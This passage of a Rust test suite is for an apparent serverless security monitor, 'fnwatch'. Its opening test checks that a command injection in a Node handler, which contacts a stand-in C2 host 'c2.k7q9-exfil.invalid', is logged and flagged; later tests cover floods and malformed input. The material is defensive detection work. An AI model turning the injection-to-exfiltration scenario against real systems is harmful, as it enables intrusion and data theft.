    let attack = invs.iter().find(|r| r["label"] == "attack").unwrap()["request_id"]
        .as_str()
        .unwrap()
        .to_string();
    let first_test = invs.iter().find(|r| r["label"] == "test").unwrap()["request_id"]
        .as_str()
        .unwrap()
        .to_string();
    let split = run.invocation_event(&first_test)["time"]
        .as_str()
        .unwrap()
        .to_string();
    let split = (chrono::DateTime::parse_from_rfc3339(&split).unwrap()
        - chrono::Duration::milliseconds(500))
    .to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    // The shell the handler started, with the injected command, and the
    // lookup made by the node process the injection ran (the preload is in
    // NODE_OPTIONS, so it is hooked too), both stamped with the request id.
    let procs = run.events_of("process", &attack);
    assert!(
        procs.iter().any(|p| p["exe"] == "/bin/sh"
            && p["args"][2]
                .as_str()
                .is_some_and(|c| c.contains("c2.k7q9-exfil.invalid"))),
        "{procs:?}"
    );
    assert!(
        run.events_of("dns", &attack)
            .iter()
            .any(|d| d["query"] == "c2.k7q9-exfil.invalid" && d["rcode"] == "NXDOMAIN"),
        "{:?}",
        run.events_of("dns", &attack)
    );
    // The node process the injection started did not announce itself as the
    // runtime (whose CPU the extension reads): one runtime pid in the log.
    let pids: HashSet<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("the runtime's hook started"))
        .filter_map(|l| l.split("pid=").nth(1))
        .filter_map(|t| t.split_whitespace().next())
        .collect();
    assert_eq!(pids.len(), 1, "{}", run.stderr);
    assert!(run.invocation_event(&attack)["cpu_ms"].as_f64().unwrap() > 0.0);

    let lake = d.join("lake");
    fnwatch(&[
        "ingest",
        "--lake",
        lake.to_str().unwrap(),
        run.stdout.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(
        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
        0
    );
    fnwatch(&[
        "train",
        "--lake",
        lake.to_str().unwrap(),
        "--from",
        &start,
        "--to",
        &split,
    ])
    .ok();
    let alerts = alerts_of(&lake, &split, &end, &d);
    let flagged: HashSet<&str> = alerts
        .iter()
        .filter(|a| ["medium", "high", "critical"].contains(&a["severity"].as_str().unwrap_or("")))
        .map(|a| a["request_id"].as_str().unwrap_or("-"))
        .collect();
    assert_eq!(
        flagged,
        HashSet::from([attack.as_str()]),
        "alerts: {alerts:#?}"
    );
}

#[test]
fn node_a_flood_is_counted_never_waited_for_nor_lost() {
    let dir = tempfile::tempdir().unwrap();
    // 20,000 events in one synchronous loop: Node's queue for the socket
    // fills (the loop never yields), so the hook must drop and count. One
    // invocation only: the count has to be sent at its end, not with a next
    // one's first message.
    let plan = vec![json!({"label": "flood", "invoke": {"n": 20000}})];
    let run = standin_node(dir.path(), "flooder", "flood", 10.0, &plan);
    let invs = run.invocations();
    assert_eq!(invs[0]["status"], "success", "{invs:?}");
    let flood = invs[0]["request_id"].as_str().unwrap();
    let shipped = run.events_of("dns", flood).len() as u64;
    // The count travels behind the queued messages, so it can reach the
    // extension after the invocation's own event was made: the shutdown
    // stats have everything.
    let stats: Value = run
        .stderr
        .lines()
        .filter(|l| l.contains("stats at shutdown"))
        .filter_map(|l| l.split("stats=").nth(1))
        .filter_map(|t| t.split(" flushed=").next())
        .find_map(|j| serde_json::from_str(j).ok())
        .unwrap_or_else(|| panic!("no stats at shutdown:\n{}", run.stderr));
    let dropped = stats["hook_dropped"].as_u64().unwrap();
    assert!(
        dropped > 0 && shipped > 1000,
        "{shipped} shipped, {dropped} dropped"
    );
    // Every event is either shipped with the flooding invocation's request
    // id or counted.
    assert_eq!(shipped + dropped, 20000, "{stats}");
}

#[test]
fn node_an_es_module_handler_is_seen_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path().join("report.txt");
    let plan: Vec<Value> = (0..3)
        .map(
            |i| json!({"label": format!("e{i}"), "invoke": {"tmp": tmp.to_str().unwrap(), "n": i}}),
        )
        .collect();
    let mut with_error = plan.clone();
    // A handler that rejects (no file name): the runtime posts an error
    // through the hooked client, and the invocation is reported as one.
    with_error.push(json!({"label": "bad", "invoke": {}}));
    let run = standin_node(dir.path(), "reports", "node_esm.handler", 10.0, &with_error);
    let invs = run.invocations();
    assert_eq!(invs.len(), 4, "{:?}", run.results);
    let bad = invs[3]["request_id"].as_str().unwrap();
    assert_eq!(invs[3]["status"], "error", "{}", invs[3]);
    assert_eq!(run.invocation_event(bad)["status"], "error");
    assert_eq!(run.invocation_event(bad)["event"], "{}");
    for (i, r) in invs[..3].iter().enumerate() {
        assert_eq!(r["status"], "success", "{r}");
        let rid = r["request_id"].as_str().unwrap();
        assert_eq!(r["response"]["request_id"], rid);
        let e = run.invocation_event(rid);
        assert_eq!(e["event_bytes"].as_u64(), Some(event_len(&plan[i])), "{e}");
        assert!(
            run.events_of("file", rid)
                .iter()
                .any(|f| f["path"] == tmp.to_str().unwrap()),
            "{:?}",
            run.events
        );
        assert!(
            run.events_of("process", rid)
                .iter()
                .any(|p| p["exe"].as_str().is_some_and(|x| x.ends_with("/true"))),
            "{:?}",
            run.events
        );
    }
}

/// The bytes of the event the stand-in delivers (Python's `json.dumps`).
fn event_len(step: &Value) -> u64 {
    let out = Command::new(python())
        .args([
            "-c",
            "import json,sys; print(len(json.dumps(json.loads(sys.argv[1])).encode()))",
        ])
        .arg(step["invoke"].to_string())
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

#[test]
fn node_garbage_on_the_stream_socket_is_counted_and_the_extension_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let plan = vec![
        json!({"label": "garbage", "invoke": {"garbage": true}}),
        json!({"label": "after", "invoke": {}}),
    ];
    let run = standin_node(dir.path(), "garbage-node", "garbage", 10.0, &plan);
    let invs = run.invocations();
    assert!(invs.iter().all(|r| r["status"] == "success"), "{invs:?}");
    let last = run.invocation_event(invs[1]["request_id"].as_str().unwrap());
    let s = &last["sensor"];
    let by = s["rejected_by_reason"].as_object().unwrap();
    let n = |k: &str| by.get(k).and_then(Value::as_u64).unwrap_or(0);
    // 50 bad lines, one 200 kB line, and the connections beyond the 64 the
    // extension serves at once (the runtime's own hook holds one).
    assert_eq!(
        n("not_json") + n("not_object") + n("unknown_type") + n("bad_field"),
        50,
        "{s}"
    );
    for reason in ["not_json", "not_object", "unknown_type", "bad_field"] {
        assert!(n(reason) > 0, "{reason}: {s}");
    }
    assert_eq!(n("oversized"), 1, "{s}");
    assert!(n("too_many_connections") >= 6, "{s}");
    // The extension went on: the next invocation is reported in full.
    assert_eq!(last["status"], "success");
    assert!(run.stderr.contains("stats at shutdown"), "{}", run.stderr);
}
